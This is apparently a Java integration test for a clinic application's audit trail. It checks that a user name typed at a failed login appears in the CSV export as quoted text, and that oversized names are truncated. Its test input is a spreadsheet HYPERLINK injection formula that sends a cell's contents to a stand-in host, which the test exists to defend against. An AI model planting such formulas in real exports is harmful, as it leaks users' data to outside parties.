package org.imagoclinic.audit.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestBuilders.formLogin;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.imagoclinic.support.ClinicIntegrationTest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;

/**
 * A user name typed at a failed sign-in is the one thing in the audit trail that anyone on the
 * internet chooses: in the CSV export it is text, never a formula (ADR 0028), and only its first
 * 100 characters are kept.
 */
@ClinicIntegrationTest
class AuditCsvInjectionTests {

    static final String FORMULA = "=HYPERLINK(\"http://x/\"&A2,\"open\")";

    @Autowired
    MockMvc mvc;
    @Autowired
    JdbcTemplate jdbc;

    @Test
    void aFormulaTypedAsAUserNameIsExportedAsText() throws Exception {
        mvc.perform(formLogin("/login").user(FORMULA).password("guess")).andExpect(status().is3xxRedirection());

        String csv = mvc.perform(get("/api/audit.csv").param("action", "SIGN_IN_FAILURE")
                        .with(httpBasic("admin", ClinicIntegrationTest.DEMO_PASSWORD)))
                .andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();

        assertThat(rows).anySatisfy(row -> {
            assertThat(row.get("User name")).isEqualTo("'" + FORMULA);
            assertThat(row.get("Subject id")).isEqualTo("'" + FORMULA);
        });
        assertThat(rows).flatMap(CSVRecord::toList).noneMatch(cell -> !cell.isEmpty()
                && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("[+-]?\\d+(\\.\\d+)?"));
    }

    @Test
    void aMegabyteUserNameIsCutToAHundredCharactersWhereverItIsKept() throws Exception {
        String prefix = "huge" + System.nanoTime();
        String typed = prefix + "x".repeat(1 << 20);

        mvc.perform(get("/api/me").with(httpBasic(typed, "guess"))).andExpect(status().isUnauthorized());

        List<Integer> audited = jdbc.queryForList("select length(username) from audit.audit_entry where username like ?",
                Integer.class, prefix + "%");
        assertThat(audited).isNotEmpty().allSatisfy(length -> assertThat(length).isEqualTo(101));
        assertThat(jdbc.queryForList("select length(subject_id) from audit.audit_entry where subject_id like ?",
                Integer.class, prefix + "%")).isNotEmpty().allSatisfy(length -> assertThat(length).isEqualTo(101));
        assertThat(jdbc.queryForList("select length(username_key) from security.sign_in_failure where username_key like ?",
                Integer.class, prefix + "%")).singleElement().isEqualTo(101);
    }
}
